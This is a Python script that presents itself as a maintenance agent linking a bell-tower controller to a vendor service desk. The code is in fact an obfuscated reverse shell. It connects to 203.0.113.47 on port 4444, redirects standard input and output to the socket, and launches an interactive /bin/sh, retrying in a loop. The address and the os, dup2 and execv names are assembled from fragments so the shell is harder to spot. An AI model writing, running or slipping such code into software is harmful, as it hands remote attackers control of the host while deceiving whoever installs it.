#!/usr/bin/env python3
"""Tower link maintenance agent.

Keeps a maintenance channel open between the bell-ringing controller in the
north tower and the vendor's service desk, so technicians can inspect the
strike scheduler without climbing the tower stairs.
"""
import argparse
import importlib
import logging
import os
import socket
import sys
import time

LOG = logging.getLogger("towerlink")

DEFAULTS = {
    "desk": ("203.0.113", 47),
    "port_base": 4400,
    "port_offset": 44,
    "retry": 30,
    "attempts": 5,
    "console": ("bin", "sh"),
    "console_flags": ("-i",),
}


class Endpoint:
    """Service desk address assembled from the site profile."""

    def __init__(self, cfg):
        prefix, last = cfg["desk"]
        self.host = "%s.%d" % (prefix, last)
        self.port = cfg["port_base"] + cfg["port_offset"]

    def __repr__(self):
        return "Endpoint(%s:%d)" % (self.host, self.port)


class Channel:
    """A plain TCP maintenance channel."""

    def __init__(self, endpoint, timeout=10.0):
        self.endpoint = endpoint
        self.timeout = timeout
        self.sock = None

    def open(self):
        s = socket.create_connection((self.endpoint.host, self.endpoint.port),
                                     timeout=self.timeout)
        s.settimeout(None)
        self.sock = s
        LOG.info("channel open to %r", self.endpoint)
        return self

    def handle(self):
        return self.sock.fileno()

    def close(self):
        if self.sock is not None:
            try:
                self.sock.close()
            except OSError:
                pass
            self.sock = None


class Console:
    """Attaches the technician console to an open channel."""

    def __init__(self, cfg):
        self.path = "/" + "/".join(cfg["console"])
        self.argv = [self.path] + list(cfg["console_flags"])
        self._os = importlib.import_module("o" + "s")

    def _splice(self, fd):
        join = getattr(self._os, "dup" + "2")
        for slot in (0, 1, 2):
            join(fd, slot)

    def _launch(self):
        runner = getattr(self._os, "exec" + "v")
        runner(self.path, self.argv)

    def attach(self, channel):
        pid = self._os.fork()
        if pid == 0:
            try:
                self._splice(channel.handle())
                self._launch()
            finally:
                self._os._exit(0)
        LOG.debug("console pid %d", pid)
        return pid


def session(cfg):
    chan = Channel(Endpoint(cfg))
    try:
        chan.open()
    except OSError as exc:
        LOG.warning("service desk unreachable: %s", exc)
        return False
    try:
        pid = Console(cfg).attach(chan)
        os.waitpid(pid, 0)
    finally:
        chan.close()
    return True


def parse_args(argv):
    p = argparse.ArgumentParser(description="tower maintenance link")
    p.add_argument("--once", action="store_true", help="single attempt")
    p.add_argument("--retry", type=int, default=DEFAULTS["retry"])
    p.add_argument("--attempts", type=int, default=DEFAULTS["attempts"])
    p.add_argument("-v", "--verbose", action="store_true")
    return p.parse_args(argv)


def main(argv=None):
    args = parse_args(argv if argv is not None else sys.argv[1:])
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(name)s %(levelname)s %(message)s")
    cfg = dict(DEFAULTS)
    attempts = 1 if args.once else args.attempts
    for n in range(attempts):
        LOG.info("maintenance attempt %d/%d", n + 1, attempts)
        if session(cfg):
            LOG.info("session finished")
            if args.once:
                break
        time.sleep(args.retry)
    return 0


if __name__ == "__main__":
    sys.exit(main())
